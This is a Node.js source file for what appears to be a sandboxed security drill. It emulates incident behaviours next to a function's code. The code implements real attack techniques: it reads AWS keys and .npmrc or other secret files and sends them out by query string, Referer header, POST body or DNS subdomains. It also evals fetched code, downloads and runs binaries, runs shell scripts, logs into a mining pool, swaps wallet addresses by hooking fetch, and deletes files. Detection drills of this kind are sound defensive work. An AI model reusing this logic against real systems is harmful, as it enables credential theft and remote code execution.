// The behaviours of incidents in Node.js, which `shielded-function drill` puts beside a function's code.
//
// It is harmless: it takes only secrets that the drill made up, it runs nothing but `echo`, and it is started only in
// a sandbox whose network is its own loopback. Each behaviour's beginning and end is a line in the log.
"use strict";

const { spawnSync } = require("node:child_process");
const dns = require("node:dns/promises");
const fs = require("node:fs");
const net = require("node:net");
const path = require("node:path");
const tls = require("node:tls");

const PLAN = JSON.parse(fs.readFileSync(path.join(__dirname, "plan.json"), "utf8"));
const SECONDS = 4;
const MINE = "0x" + "1".repeat(40);
const THEIRS = "0x" + "2".repeat(40);
// Without certificates: the emulated receivers have none.
const TLS = { ciphers: "aNULL:@SECLEVEL=0", maxVersion: "TLSv1.2", rejectUnauthorized: false };

const { stringify } = JSON; // before a behaviour replaces it
const say = (line) => fs.writeSync(2, stringify({ shielded_drill: PLAN.nonce, ...line }) + "\n");

function secret(take) {
  if (take === "env") return process.env.AWS_SECRET_ACCESS_KEY;
  const names = fs.readdirSync(PLAN.secrets).filter((name) => take === "files" || name === ".npmrc");
  return names.map((name) => fs.readFileSync(path.join(PLAN.secrets, name), "utf8")).join("\n");
}

function request(step, { url = "/", body = "", headers = {} } = {}) {
  const { host, port = 443 } = step;
  const client = require(port === 443 ? "node:https" : "node:http");
  const options = { host, port, path: url, headers, method: body ? "POST" : "GET", agent: false, ...TLS };
  return new Promise((resolve, reject) => {
    const sent = client.request({ ...options, timeout: SECONDS * 1000 }, (response) => {
      const parts = [];
      response.on("data", (part) => parts.push(part));
      response.on("end", () => resolve(Buffer.concat(parts)));
      response.on("error", reject);
    });
    sent.on("timeout", () => sent.destroy(new Error("timed out")));
    sent.on("error", reject);
    sent.end(body || undefined);
  });
}

function start(step, ...command) {
  const [program, ...rest] = command;
  const done = spawnSync(program, [...rest, PLAN.nonce, String(step.step)], { stdio: "inherit", timeout: SECONDS * 1000 });
  if (done.error) throw done.error;
}

const does = {
  send(step) {
    const taken = Buffer.from(secret(step.take)).toString("base64");
    if (step.way === "query") return request(step, { url: `/?${taken}` });
    if (step.way === "header") return request(step, { headers: { Referer: `http://1.a/${taken}` } });
    return request(step, { body: taken });
  },
  resolve(step) {
    const taken = Buffer.from(secret(step.take).trim().slice(-30)).toString("hex");
    return dns.lookup(`${taken}.${step.host}`);
  },
  ask: (step) => request(step),
  aws(step) {
    const Authorization = `AWS4-HMAC-SHA256 Credential=${process.env.AWS_ACCESS_KEY_ID}/`;
    return request(step, { body: "Action=GetCallerIdentity", headers: { Authorization } });
  },
  mine: ({ host, port }) =>
    new Promise((resolve, reject) => {
      const pool = port === 443 ? tls.connect({ host, port, servername: host, ...TLS }) : net.connect({ host, port });
      pool.on("error", reject);
      pool.setTimeout(SECONDS * 1000, () => pool.destroy(new Error("timed out")));
      pool.write('{"method":"login"}\n');
      pool.once("data", () => resolve(pool.destroy()));
    }),
  async evaluate(step) {
    eval((await request(step)).toString());
  },
  async download(step) {
    fs.writeFileSync(step.path, await request(step));
    fs.chmodSync(step.path, 0o755);
    start(step, step.path);
  },
  run: (step) => start(step, path.join(__dirname, "program")),
  shell: (step) => start(step, "/bin/sh", "-c", fs.readFileSync(path.join(__dirname, "program"), "utf8"), "sh"),
  overwrite: (step) => fs.writeFileSync(step.path, "overwritten"),
  delete: (step) => fs.unlinkSync(step.path),
  // Hooks the language's HTTP client for one call, whose data are in its URL.
  async alter(step) {
    const original = globalThis.fetch;
    globalThis.fetch = async (...given) => new Response((await (await original(...given)).text()).replace(MINE, THEIRS));
    try {
      if ((await (await fetch(`data:text/plain,${MINE}`)).text()) === THEIRS) say({ ran: step.step });
    } finally {
      globalThis.fetch = original;
    }
  },
  // Replaces the function that turns the handler's answer into text, as a function's modules may be read-only.
  answer(step) {
    const more = secret(step.take);
    JSON.stringify = (value, ...rest) => stringify({ answer: value, more }, ...rest);
  },
};

// Runs each behaviour in order, also after one that fails.
async function play() {
  for (const step of PLAN.steps) {
    say({ begin: step.step });
    try {
      await does[step.do](step);
      say({ end: step.step });
    } catch (error) {
      say({ end: step.step, error: `${error.code || error.name}: ${error.message}` });
    }
  }
  say({ finished: true });
}

play();
